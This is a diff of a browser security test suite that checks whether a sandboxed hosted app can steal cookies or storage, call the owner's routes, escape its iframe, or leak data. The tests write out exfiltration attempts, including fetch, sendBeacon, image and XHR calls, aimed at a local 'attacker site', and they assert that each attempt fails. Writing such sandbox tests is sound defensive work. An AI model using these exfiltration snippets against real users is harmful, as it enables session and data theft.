@@ -5,7 +5,7 @@ import { mkdirSync, rmSync, writeFileSync } from "node:fs";
 import { createServer } from "node:http";
 import { join } from "node:path";
 import { after, afterEach, before } from "node:test";
-import { app, asOwner, closeBrowser, code, eventually, launchBrowser, mintSession, newVisitor, stack, test, waitUntilReady } from "./support.mjs";
+import { app, requestAsOwner, closeBrowser, code, eventually, launchBrowser, mintSession, newVisitor, stack, test, waitUntilReady } from "./support.mjs";
 
 const SLUG = "hostile";
 const folder = join(stack.owner.home, "apps", SLUG);
@@ -21,14 +21,14 @@ const PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>
 
 before(async () => {
   await waitUntilReady();
-  attackerSite = createServer((request, answer) => {
+  attackerSite = createServer((request, response) => {
     leakedRequests.push(request.url);
-    answer.writeHead(200, { "access-control-allow-origin": "*" }).end("thanks");
+    response.writeHead(200, { "access-control-allow-origin": "*" }).end("thanks");
   });
   await new Promise((listening) => attackerSite.listen(0, "127.0.0.1", listening));
   install();
   await eventually("the hostile app", async () => {
-    const { apps } = JSON.parse((await asOwner("/api/apps")).body);
+    const { apps } = JSON.parse((await requestAsOwner("/api/apps")).body);
     assert.equal(apps.find(({ slug }) => slug === SLUG)?.status, "ready");
   });
   chrome = await launchBrowser();
@@ -80,7 +80,7 @@ const attempt = (frame, source) =>
 
 test("an app cannot read cookies, storage or the parent page", async () => {
   const { frame, context } = await open();
-  assert.ok((await context.cookies()).some(({ name }) => name === "__session"), "there is something to steal");
+  assert.ok((await context.cookies()).some(({ name }) => name === "__session"), "the context has a session cookie");
   for (const source of [
     "document.cookie", "localStorage.length", "sessionStorage.length", "indexedDB.open('x')", "caches.open('x')",
     "parent.document.body.innerHTML", "top.location.href", "parent.localStorage.owner", "frameElement.outerHTML",
@@ -96,9 +96,9 @@ test("an app cannot use the owner's routes or other apps' pages and rows", async
   const { frame } = await open();
   const token = new URL(frame.url()).pathname.split("~")[1].split("/")[0];
   const withToken = `{ headers: { authorization: "Bearer ${token}" } }`;
-  const find = (of) => `fetch("/api/bridge/query", { method: "POST",
+  const findRows = (slug) => `fetch("/api/bridge/query", { method: "POST",
     headers: { authorization: "Bearer ${token}", "content-type": "application/json" },
-    body: JSON.stringify({ app: "${of}", table: "notes", action: "find" }) })`;
+    body: JSON.stringify({ app: "${slug}", table: "notes", action: "find" }) })`;
   for (const source of [
     `fetch("/api/usage")`, `fetch("/api/usage", { credentials: "include" })`, `fetch("/api/usage", ${withToken})`,
     `fetch("/api/dispatch", { method: "POST", headers: { authorization: "Bearer ${token}" }, body: "{}" })`,
@@ -106,17 +106,17 @@ test("an app cannot use the owner's routes or other apps' pages and rows", async
     `fetch("/_svc/app-token", { method: "POST", credentials: "include", body: '{"app":"notes"}' })`,
     `fetch("/_svc/sign-out", { method: "POST", credentials: "include" })`,
     `fetch("/apps/notes/~${token}/")`, `fetch("/apps/notes/", ${withToken})`, `fetch("/apps/notes/", { credentials: "include" })`,
-    find("notes"),
+    findRows("notes"),
   ]) {
     const { error, value } = await attempt(frame, source);
     assert.ok(error || [400, 401, 403, 404].includes(value), `${source}: ${JSON.stringify({ error, value })}`);
   }
-  assert.equal((await asOwner("/api/usage")).status, 200, "the owner is still signed in");
+  assert.equal((await requestAsOwner("/api/usage")).status, 200, "the owner is still signed in");
 });
 
 test("an app cannot leave its frame or navigate it to another app", async () => {
   const { frame, page } = await open();
-  const here = page.url();
+  const pageUrl = page.url();
   for (const source of [
     `top.location = "${app}/?taken"`, `top.location.replace("${app}/?taken")`, `document.querySelector("#other").click()`,
     `location.assign("/apps/notes/")`,
@@ -125,10 +125,10 @@ test("an app cannot leave its frame or navigate it to another app", async () => 
     await attempt(frame, source).catch(() => undefined);
   }
   await page.waitForTimeout(500);
-  assert.equal(page.url(), here);
-  assert.ok(!page.frames().some((frame) => frame.url().includes("/apps/notes/")), page.frames().map((it) => it.url()).join(" "));
+  assert.equal(page.url(), pageUrl);
+  assert.ok(!page.frames().some((frame) => frame.url().includes("/apps/notes/")), page.frames().map((frame) => frame.url()).join(" "));
   const { frame: fresh, page: second } = await open();
-  // Without a click no window opens; with one, the window has its own origin.
+  // Without a click, no window opens; with a click, the window has its own origin.
   assert.deepEqual(await attempt(fresh, `window.open("/") === null`), { value: true });
   const [popup] = await Promise.all([second.context().waitForEvent("page"), fresh.locator("#out").click()]);
   await popup.waitForLoadState();
@@ -148,7 +148,7 @@ test("an app can send data only to the origins in its manifest", async () => {
   const { frame } = await open();
   const { port } = attackerSite.address();
   const site = `http://localhost:${port}`;
-  const ways = [
+  const attempts = [
     `fetch("${site}/fetch?rows")`, `navigator.sendBeacon("${site}/beacon?rows", "x")`,
     `new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = "${site}/image?rows"; })`,
     `new Promise((done) => { const xhr = new XMLHttpRequest(); xhr.onloadend = done; xhr.open("GET", "${site}/xhr"); xhr.send(); })`,
@@ -160,15 +160,15 @@ test("an app can send data only to the origins in its manifest", async () => {
     `import("${site}/module")`,
     `new Promise((done) => { location.href = "${site}/navigation?rows"; setTimeout(done, 500); })`,
   ];
-  for (const source of ways) await attempt(frame, source).catch(() => undefined);
+  for (const source of attempts) await attempt(frame, source).catch(() => undefined);
   await new Promise((done) => setTimeout(done, 300));
   assert.deepEqual(leakedRequests, []);
 
-  const list = JSON.parse((await asOwner("/api/apps")).body).apps;
+  const list = JSON.parse((await requestAsOwner("/api/apps")).body).apps;
   assert.deepEqual(list.find(({ slug }) => slug === SLUG).connect, []);
   install({ connect: ["https://api.example.com"] });
   await eventually("the updated list of apps", async () => {
-    const { apps } = JSON.parse((await asOwner("/api/apps")).body);
+    const { apps } = JSON.parse((await requestAsOwner("/api/apps")).body);
     assert.deepEqual(apps.find(({ slug }) => slug === SLUG).connect, ["https://api.example.com"]);
   });
   const visit = await newVisitor(chrome);
@@ -190,7 +190,7 @@ test("an app can send data only to the origins in its manifest", async () => {
   assert.ok(requests >= 1 && requests < 100, String(requests));
 });
 
-test("what one account's machine left in a browser is gone before the next account's requests", async () => {
+test("data that one account's machine stored in a browser is cleared before the next account's requests", async () => {
   const { page, context } = await newVisitor(chrome);
   await page.goto(app);
   const worker = await page.evaluate(() => navigator.serviceWorker.register("/shell.js").then(() => "registered", String));
@@ -207,8 +207,8 @@ test("what one account's machine left in a browser is gone before the next accou
   await context.clearCookies({ name: /session$/ });
   const value = await mintSession("user_other");
   await context.addCookies([app, code].map((url) => ({ name: "__session", value, url })));
-  // The page is still the first account's.
-  assert.equal(await page.evaluate(() => fetch("/_svc/slots").then((answer) => answer.status)), 401);
+  // The page still belongs to the first account.
+  assert.equal(await page.evaluate(() => fetch("/_svc/slots").then((response) => response.status)), 401);
   assert.equal((await page.goto(app)).status(), 503, "the second account has no machine");
   assert.deepEqual(await stored(), [0, 0]);
   await context.close();
